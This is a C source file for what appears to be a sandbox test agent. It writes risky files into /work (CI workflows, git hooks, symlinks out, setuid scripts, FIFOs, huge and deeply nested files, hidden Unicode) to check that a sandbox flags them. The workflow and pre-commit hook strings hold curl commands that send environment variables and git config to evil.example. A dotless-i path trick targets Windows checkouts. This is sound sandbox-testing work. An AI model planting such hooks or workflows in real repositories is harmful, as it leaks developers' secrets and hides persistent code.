/*
 * cordon-drill-agent, the return path: writes in /work that must not come
 * back unflagged (CI files, git hooks, symbolic links out, setuid bits,
 * fifos, files past the disk limit). cordon drill judges them by the
 * hatch's flags at the seal.
 */
#include "agent.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define TEN_GIB (10240L * MIB)

/* --- return path ---------------------------------------------------------- */

/* done with the path relative to /work, or stopped with the errno. */
static void
write_result(const struct drill *d, int r, const char *path, const char *what)
{
	char ev[128];

	if (r == 0) {
		snprintf(ev, sizeof(ev), "path=%s", path + strlen("/work/"));
		report(d, "done", ev, "wrote %s: %s", path, what);
	} else {
		snprintf(ev, sizeof(ev), "errno=%s", errname(-r).s);
		report(d, "stopped", ev, "the sandbox refused %s", path);
	}
}

void
step_write_workflow(struct drill *d)
{
	static const char yml[] =
	    "name: drill\n"
	    "on: [push, pull_request]\n"
	    "jobs:\n"
	    "  drill:\n"
	    "    runs-on: ubuntu-latest\n"
	    "    steps:\n"
	    "      - run: curl -s https://evil.example/ci -d \"$(env)\"\n";
	const char *path = "/work/.github/workflows/drill.yml";
	int r = mkdirs("/work/.github/workflows");

	if (r == 0)
		r = put_file(path, yml, sizeof(yml) - 1, 0644);
	write_result(d, r, path, "a CI workflow that sends the runner's env");
}

/* .github spelt with U+0131 (dotless i): NTFS's $UpCase table reads it
 * as .GITHUB, so a Windows checkout runs the workflow. */
void
step_write_workflow_fold(struct drill *d)
{
	static const char yml[] =
	    "on: push\n"
	    "jobs:\n"
	    "  drill:\n"
	    "    runs-on: windows-latest\n"
	    "    steps:\n"
	    "      - run: curl -s https://evil.example/ci -d \"$(env)\"\n";
	const char *path = "/work/.g\xc4\xb1thub/workflows/drill.yml";
	int r = mkdirs("/work/.g\xc4\xb1thub/workflows");

	if (r == 0)
		r = put_file(path, yml, sizeof(yml) - 1, 0644);
	write_result(d, r, path, "a CI workflow under .g\\u0131thub");
}

void
step_write_git_hook(struct drill *d)
{
	static const char hook[] =
	    "#!/bin/sh\n"
	    "curl -s https://evil.example/hook -d \"$(git config --list)\" "
	    ">/dev/null 2>&1\n"
	    "exit 0\n";
	const char *path = "/work/.git/hooks/pre-commit";
	int r = mkdirs("/work/.git/hooks");

	if (r == 0)
		r = put_file(path, hook, sizeof(hook) - 1, 0755);
	write_result(d, r, path, "a pre-commit hook that calls out");
}

void
step_symlink_etc(struct drill *d)
{
	write_result(d, symlink("/etc", "/work/drill-etc") < 0 ? -errno : 0,
	    "/work/drill-etc", "a symbolic link to /etc");
}

void
step_symlink_up(struct drill *d)
{
	write_result(d, symlink("../..", "/work/drill-up") < 0 ? -errno : 0,
	    "/work/drill-up", "a symbolic link to ../..");
}

void
step_setuid_file(struct drill *d)
{
	const char *path = "/work/drill-setuid";
	int r = put_file(path, "#!/bin/sh\n", 10, 0755);
	struct stat st;
	char ev[96];

	if (r == 0 && chmod(path, 04755) < 0) {
		snprintf(ev, sizeof(ev), "syscall=chmod errno=%s",
		    errname(errno).s);
		report(d, "stopped", ev, "the setuid bit was refused");
	} else if (r == 0 && stat(path, &st) == 0 && !(st.st_mode & S_ISUID)) {
		report(d, "stopped", "-", "the setuid bit did not stick");
	} else {
		write_result(d, r, path, "a setuid script");
	}
}

void
step_fifo(struct drill *d)
{
	write_result(d, mkfifo("/work/drill-fifo", 0644) < 0 ? -errno : 0,
	    "/work/drill-fifo", "a FIFO");
}

void
step_big_file(struct drill *d)
{
	const char *path = "/work/drill-big";
	int fd = open(path,
	    O_WRONLY | O_CREAT | O_TRUNC | O_NOFOLLOW | O_CLOEXEC, 0644);
	char *chunk, ev[96];
	long total = 0;
	int err = 0;

	if (fd < 0) {
		write_result(d, -errno, path, "");
		return;
	}
	if ((chunk = malloc(MIB)) == NULL) {
		close(fd);
		report(d, "untested", "errno=ENOMEM", "no memory");
		return;
	}
	memset(chunk, 'D', MIB);
	while (total < TEN_GIB) {
		ssize_t k = write(fd, chunk, (size_t)(MIB - total % MIB));
		if (k <= 0) {
			err = k < 0 ? errno : ENOSPC;
			break;
		}
		total += k;
	}
	close(fd);
	free(chunk);
	if (err == 0) {
		report(d, "done", "path=drill-big mb=10240",
		    "wrote 10 GiB to %s", path);
	} else {
		snprintf(ev, sizeof(ev), "errno=%s mb=%ld", errname(err).s,
		    total / MIB);
		report(d, "stopped", ev, "the write stopped after %ld MiB",
		    total / MIB);
	}
}

void
step_sparse_file(struct drill *d)
{
	const char *path = "/work/drill-sparse";
	int fd = open(path,
	    O_WRONLY | O_CREAT | O_TRUNC | O_NOFOLLOW | O_CLOEXEC, 0644);
	int r = 0;

	if (fd < 0)
		r = -errno;
	else if (ftruncate(fd, TEN_GIB) < 0 ||
	    pwrite(fd, "x", 1, TEN_GIB - 1) < 0)
		r = -errno;
	if (fd >= 0)
		close(fd);
	write_result(d, r, path, "a 10 GiB sparse file");
}

/* --- every CI system's file ------------------------------------------------ */

void
step_ci_files(struct drill *d)
{
	static const char *const paths[] = { "zz/.github/workflows/x.yml",
		".GITHUB/workflows/x.yml", ".gitea/workflows/x.yml",
		".forgejo/workflows/x.yml", ".gitlab-ci.yml",
		".circleci/config.yml", ".travis.yml", "azure-pipelines.yml",
		"bitbucket-pipelines.yml", ".drone.yml",
		".buildkite/pipeline.yml", ".woodpecker.yml",
		".woodpecker/x.yml", "Jenkinsfile", ".husky/pre-commit",
		".pre-commit-config.yaml", ".vscode/tasks.json",
		".devcontainer/devcontainer.json", ".yarnrc.yml",
		"sub/.git/config" };
	static const char text[] = "# drill: runs on the next CI build\n";
	char ev[96], failed[300] = "";
	int wrote = 0;

	for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++) {
		char path[256], *slash;
		int r = 0;

		snprintf(path, sizeof(path), "/work/%s", paths[i]);
		if ((slash = strrchr(path, '/')) != path + 5) {
			*slash = '\0';
			r = mkdirs(path);
			*slash = '/';
		}
		if (r == 0)
			r = put_file(path, text, sizeof(text) - 1, 0644);
		if (r == 0) {
			wrote++;
			/* cordon drill looks for each one in the seal's flags. */
			printf("WROTE\t%s\t%s\n", d->step, paths[i]);
		} else {
			append(failed, sizeof(failed), ", ", "%s: %s", paths[i],
			    errname(-r).s);
		}
	}
	snprintf(ev, sizeof(ev), "wrote=%d of=%zu", wrote,
	    sizeof(paths) / sizeof(paths[0]));
	if (wrote == 0)
		report(d, "stopped", ev, "the sandbox refused every write: %s",
		    failed);
	else
		report(d, "done", ev, "wrote every CI system's file%s%s",
		    failed[0] != '\0' ? "; refused: " : "", failed);
}

/* --- a tree the seal must still handle ------------------------------------- */

#define DEEP 200

void
step_deep_nesting(struct drill *d)
{
	int dfd = open("/work", O_RDONLY | O_DIRECTORY | O_CLOEXEC), depth = 0;
	char ev[96];

	if (dfd < 0 || mkdirat(dfd, "drill-deep", 0755) < 0) {
		write_result(d, -errno, "/work/drill-deep", "");
		if (dfd >= 0)
			close(dfd);
		return;
	}
	for (const char *name = "drill-deep"; depth < DEEP; depth++) {
		int next =
		    openat(dfd, name, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		close(dfd);
		if ((dfd = next) < 0 ||
		    (depth + 1 < DEEP && mkdirat(dfd, "d", 0755) < 0))
			break;
		name = "d";
	}
	if (dfd >= 0) {
		int fd = openat(dfd, "bottom.txt",
		    O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
		if (fd >= 0) {
			(void)!write(fd, "deep\n", 5);
			close(fd);
		}
		close(dfd);
	}
	snprintf(ev, sizeof(ev), "path=drill-deep depth=%d", depth);
	report(d, depth == DEEP ? "done" : "stopped", ev,
	    "%d nested directories%s", depth,
	    depth == DEEP ? " and a file at the bottom" : " (then refused)");
}

/* --- what a reader of the output must see ---------------------------------- */

void
step_hidden_unicode(struct drill *d)
{
	/* Right-to-left override, zero-width space and joiner, a bidi
	 * isolate, a byte order mark, tag characters spelling "hi", and an
	 * ANSI colour: none may reach a reader raw. */
	fputs("drill: \xe2\x80\xae"
	      "txt.exe \xe2\x80\x8b\xe2\x80\x8d"
	      "\xe2\x81\xa6"
	      "isolate\xe2\x81\xa9 \xef\xbb\xbf"
	      "\xf3\xa0\x81\xa8\xf3\xa0\x81\xa9 \x1b[31mred\x1b[0m\n",
	    stdout);
	fflush(stdout);
	report(d, "done", "-",
	    "printed bidi overrides, zero-width and tag characters and an "
	    "ESC; cordon drill looks for them in the envelope");
}
